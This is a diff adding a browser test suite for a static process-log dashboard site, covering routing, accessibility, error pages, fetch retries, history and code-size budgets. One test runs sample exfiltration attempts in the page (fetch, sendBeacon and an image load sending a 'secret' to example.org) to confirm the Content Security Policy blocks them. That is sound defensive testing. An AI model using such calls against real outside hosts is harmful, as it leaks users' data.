@@ -1,0 +1,199 @@
+import { assert, assertEquals, assertLessOrEqual, assertMatch, assertStringIncludes } from "@std/assert";
+import { join } from "node:path";
+import type { TestPage } from "./browser.ts";
+import { onPage, type Place } from "./on-page.ts";
+
+const PAGES = ["", "map", "models", "predictions"];
+
+/** Serves a folder below a path as a plain web server does: files as they are, folders by their index. */
+function plainServer(folder: string, base: string): { address: string; close(): Promise<void> } {
+  const server = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen: () => {} }, async (request) => {
+    const { pathname, search } = new URL(request.url);
+    const path = decodeURIComponent(pathname);
+    if (!path.startsWith(base)) return new Response(null, { status: 404 });
+    let file = join(folder, path.slice(base.length));
+    const isFolder = await Deno.stat(file).then((found) => found.isDirectory, () => false);
+    if (isFolder && !path.endsWith("/")) {
+      return new Response(null, { status: 301, headers: { Location: `${pathname}/${search}` } });
+    }
+    if (isFolder) file = join(file, "index.html");
+    const bytes = await Deno.readFile(file).catch(() => null);
+    if (bytes === null) return new Response(null, { status: 404 });
+    const type = { html: "text/html", js: "text/javascript", css: "text/css" }[file.split(".").at(-1)!];
+    return new Response(bytes, { headers: { "Content-Type": type ?? "application/octet-stream" } });
+  });
+  return { address: `http://127.0.0.1:${server.addr.port}${base}`, close: () => server.shutdown() };
+}
+
+/** Every link of the menu leads to its page on a server that knows nothing but files. */
+export async function plainWebServer({ browser, site }: Place): Promise<void> {
+  const server = plainServer(site.site, "/some/where/");
+  const opened = await browser.open(server.address);
+  try {
+    const missing: string[] = [];
+    opened.page.on("response", (response) => response.status() >= 400 && missing.push(response.url()));
+    await opened.page.goto(`${server.address}?log=hostile`);
+    const names = await opened.page.locator(".page-link").allInnerTexts();
+    assertLessOrEqual(4, names.length);
+    for (const name of names) {
+      await opened.page.locator(".picker select").waitFor();
+      await opened.page.getByRole("link", { name, exact: true }).click();
+      await opened.page.locator(`.page-link[aria-current=page]`, { hasText: name }).waitFor();
+      await opened.page.waitForLoadState("networkidle");
+      assertEquals(await opened.page.locator("#log").inputValue(), "hostile");
+    }
+    for (const path of ["map", "map/", "map.html"]) {
+      await opened.page.goto(`${server.address}${path}?log=orders`);
+      await opened.page.waitForURL(/\/map\.html\?log=orders/);
+      await opened.page.locator(".map-view .node").first().waitFor();
+    }
+    assertEquals(missing, []);
+    assertEquals([opened.errors, opened.outside], [[], []]);
+  } finally {
+    await opened.context.close();
+    await server.close();
+  }
+}
+
+/** What a screen reader and a keyboard find first on each page. */
+export async function frameOfPages(place: Place): Promise<void> {
+  for (const path of PAGES) {
+    await onPage(place, `${path}?log=orders`, async ({ page }) => {
+      await page.locator(".picker").waitFor();
+      const found = await page.evaluate(() => ({
+        lang: document.documentElement.lang,
+        headings: document.querySelectorAll("h1").length,
+        viewport: document.querySelector<HTMLMetaElement>("meta[name=viewport]")!.content,
+      }));
+      assertEquals(found, { lang: "en", headings: 1, viewport: "width=device-width, initial-scale=1" }, path);
+      await page.keyboard.press("Tab");
+      assertEquals(await page.evaluate(() => document.activeElement?.textContent), "Skip to the page");
+      await page.keyboard.press("Enter");
+      assertEquals(await page.evaluate(() => document.activeElement?.id), "observablehq-main", path);
+    });
+  }
+}
+
+/** Pages without JavaScript, and addresses without a page, say what is needed and lead on. */
+export async function deadEnds({ browser, site }: Place): Promise<void> {
+  const plain = await browser.open(site.address, { javaScriptEnabled: false });
+  await plain.page.goto(site.address);
+  assertStringIncludes(await plain.page.locator("noscript").innerText(), "They need JavaScript");
+  await plain.context.close();
+  const opened = await browser.open(site.address);
+  for (const path of ["nothing", "nothing/at/all", "map/nothing.html"]) {
+    const response = await opened.page.goto(site.address + path);
+    assertEquals(response?.status(), 404, path);
+    await opened.page.getByRole("heading", { name: "There is no such page", level: 1 }).waitFor();
+    await opened.page.getByRole("link", { name: "Go to the overview" }).click();
+    await opened.page.waitForURL(site.address);
+    await opened.page.locator(".kpi").first().waitFor();
+  }
+  await opened.context.close();
+}
+
+/** A page can send nothing to another site, on whatever server it stands. */
+export async function nothingLeaves({ browser, site }: Place): Promise<void> {
+  const server = plainServer(site.site, "/");
+  const opened = await browser.open(server.address);
+  try {
+    for (const address of [site.address, server.address]) {
+      await opened.page.goto(`${address}map.html?log=orders`);
+      const refused = await opened.page.evaluate(async () => {
+        const violations: string[] = [];
+        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violations.push(effectiveDirective));
+        await fetch("https://example.org/?secret").catch(() => {});
+        navigator.sendBeacon("https://example.org/?secret");
+        const image = new Image();
+        const ended = new Promise((resolve) => image.onerror = resolve);
+        image.src = "https://example.org/secret.png";
+        await ended;
+        return violations;
+      });
+      assertEquals(new Set(refused), new Set(["connect-src", "img-src"]));
+    }
+    assertEquals(opened.outside, []);
+  } finally {
+    await opened.context.close();
+    await server.close();
+  }
+}
+
+/** A file that cannot be fetched is told once, with a retry after which the page goes on. */
+export async function missingFiles({ browser, site }: Place): Promise<void> {
+  const opened = await browser.open(site.address);
+  try {
+    for (const [file, status] of [["times.columns", 0], ["variants.columns", 404], ["logs.json", 0]] as const) {
+      const pattern = new RegExp(`/${file.replace(".", "\\.")}$`);
+      await opened.context.route(pattern, (route) => status === 0 ? route.abort() : route.fulfill({ status }));
+      await opened.page.goto(`${site.address}?log=orders`);
+      const notice = opened.page.locator(".fetch-problem");
+      await notice.waitFor();
+      const reason = status === 0 ? "the server does not answer" : "it is missing";
+      assertStringIncludes(await notice.innerText(), `A file could not be fetched\n${file}: ${reason}`);
+      await notice.getByRole("button", { name: "Try again" }).click();
+      await opened.page.locator(".fetch-problem", { hasText: file }).waitFor();
+      assertEquals(await opened.page.locator("[role=alert]").count(), 1, "one notice, however many figures wait");
+      await opened.context.unroute(pattern);
+      await notice.getByRole("button", { name: "Try again" }).click();
+      await opened.page.locator(".chart svg").nth(1).waitFor();
+      await opened.page.locator(".kpi").first().waitFor();
+      assertEquals(await notice.count(), 0);
+    }
+  } finally {
+    await opened.context.close();
+  }
+}
+
+/** After Back and Forward, the picker names the log that the page shows. */
+export async function pickerAfterBack(place: Place): Promise<void> {
+  await onPage(place, "map?log=orders", async ({ page }) => {
+    const shows = async (slug: string, activities: number) => {
+      await page.locator(".map-says", { hasText: `of ${activities} activities` }).waitFor();
+      await page.waitForFunction((slug) => document.querySelector<HTMLSelectElement>("#log")?.value === slug, slug);
+      assertMatch(page.url(), new RegExp(`log=${slug}$`));
+    };
+    await shows("orders", 6);
+    await page.getByLabel("Log", { exact: true }).selectOption("hostile");
+    await shows("hostile", 4);
+    for (let round = 0; round < 2; round++) {
+      await page.goBack();
+      await shows("orders", 6);
+      await page.goForward();
+      await shows("hostile", 4);
+    }
+  });
+}
+
+/** Bytes of all files that a page fetches until it is at rest, compressed as they travel. */
+async function weightOf(
+  { browser, site }: Place,
+  path: string,
+): Promise<{ code: number; data: number; names: string[] }> {
+  const opened: TestPage = await browser.open(site.address);
+  await opened.page.goto(site.address + path);
+  await opened.page.waitForLoadState("networkidle");
+  const files = await opened.page.evaluate(() =>
+    [...performance.getEntriesByType("navigation"), ...performance.getEntriesByType("resource")].map((entry) => ({
+      path: new URL(entry.name).pathname,
+      size: (entry as PerformanceResourceTiming).encodedBodySize,
+    }))
+  );
+  await opened.context.close();
+  const sum = (isData: boolean) =>
+    files.filter(({ path }) => path.startsWith("/data/") === isData).reduce((all, { size }) => all + size, 0);
+  return { code: sum(false), data: sum(true), names: files.map(({ path }) => path) };
+}
+
+/** The budgets of code: 300 kB for the overview, 250 kB for the map before its first use. */
+export async function weightOfPages(place: Place): Promise<void> {
+  const overview = await weightOf(place, "?log=orders");
+  assertLessOrEqual(overview.code, 300_000);
+  assert(overview.names.some((name) => name.includes("plot")), "the overview draws charts");
+  const map = await weightOf(place, "map?log=orders");
+  assertLessOrEqual(map.code, 220_000);
+  for (const path of ["map", "models"]) {
+    const { names } = await weightOf(place, `${path}?log=orders`);
+    assertEquals(names.filter((name) => /plot|d3|arquero|\.wasm/.test(name)), [], `${path} draws no chart`);
+  }
+}
